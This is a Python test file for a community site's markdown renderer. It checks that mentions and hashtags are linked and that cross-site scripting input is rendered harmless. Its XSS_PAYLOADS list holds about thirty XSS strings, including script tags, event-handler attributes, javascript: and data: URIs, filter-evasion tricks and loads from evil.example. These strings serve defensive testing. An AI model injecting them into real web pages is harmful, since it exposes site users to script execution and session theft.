"""Markdown for posts and comments: XSS payloads are inert, mentions and hashtags link."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from community.markdown import ALLOWED_TAGS
from posts.rendering import render_post_markdown
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '![x](https://example.org/a.png "onmouseover=alert(1)")',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{display:none}</style>",
    "<iframe src=https://evil.example></iframe>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    "<b><i><script>alert(1)</i></b>",
    "<a href='x' onclick='alert(1)'>",
    "[a](<javascript:alert(1)>)",
    "[a][ref]\n\n[ref]: javascript:alert(1)",
    "<details open ontoggle=alert(1)>",
    "`<script>` and <object data=x></object>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    '"><img src=x onerror=alert(1)>',
    "@<script>alert(1)</script> #<img src=x onerror=alert(1)>",
    "[#tag](javascript:alert(1)) and [@member](javascript:alert(1))",
]


class _Elements(HTMLParser):
    """Every real element and attribute in the output (escaped text is not an element)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))


def _assert_inert(html: str) -> None:
    parser = _Elements()
    parser.feed(html)
    for tag, attrs in parser.elements:
        assert tag in ALLOWED_TAGS, html
        for name, value in attrs.items():
            assert not name.startswith("on"), html
            assert name in {"href", "title", "rel", "class", "start"}, html
            if name == "href":
                scheme = value.strip().lower().split(":", 1)[0] if ":" in value else ""
                assert scheme in {"", "http", "https", "mailto"}, html


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_it_renders_xss_payloads_inert(payload: str) -> None:
    UserFactory.create(handle="member")
    _assert_inert(render_post_markdown(payload).html)


def test_it_gives_every_link_rel_nofollow_noopener_ugc() -> None:
    html = render_post_markdown("[site](https://example.org) and https://example.com").html
    assert html.count('rel="nofollow noopener ugc"') == 2


def test_it_links_mentions_of_existing_members_only() -> None:
    amara = UserFactory.create(handle="dr-amara")
    rendered = render_post_markdown("Thanks @dr-amara and @nobody-here!")
    assert f'href="{amara.get_absolute_url()}"' in rendered.html
    assert 'class="mention"' in rendered.html
    assert "@nobody-here" in rendered.html
    assert rendered.mentions == (amara,)


def test_it_ignores_email_addresses_code_and_existing_links() -> None:
    UserFactory.create(handle="ana")
    rendered = render_post_markdown(
        "Write to x@ana.org, `@ana #code`, [@ana #linked](https://example.org)"
    )
    assert rendered.mentions == ()
    assert rendered.hashtags == ()
    assert 'class="mention"' not in rendered.html


def test_it_links_hashtags_lowercased_and_reports_them_once() -> None:
    rendered = render_post_markdown("#Sepsis awareness: #sepsis #EarlyAntibiotics. Not #1.")
    assert rendered.hashtags == ("sepsis", "earlyantibiotics")
    assert 'href="/tags/sepsis/"' in rendered.html
    assert 'href="/tags/earlyantibiotics/"' in rendered.html
    assert "Not #1." in rendered.html


def test_a_heading_is_not_a_hashtag() -> None:
    rendered = render_post_markdown("# Case\n\nbody")
    assert rendered.hashtags == ()
    assert "<h3>Case</h3>" in rendered.html


def test_it_keeps_text_around_links_escaped() -> None:
    UserFactory.create(handle="ana")
    html = render_post_markdown("<b>@ana</b> & #tag <i>").html
    assert "&lt;b&gt;" in html
    assert "&amp;" in html
    assert "<b>" not in html


def test_empty_text_renders_empty() -> None:
    assert render_post_markdown("   ").html == ""
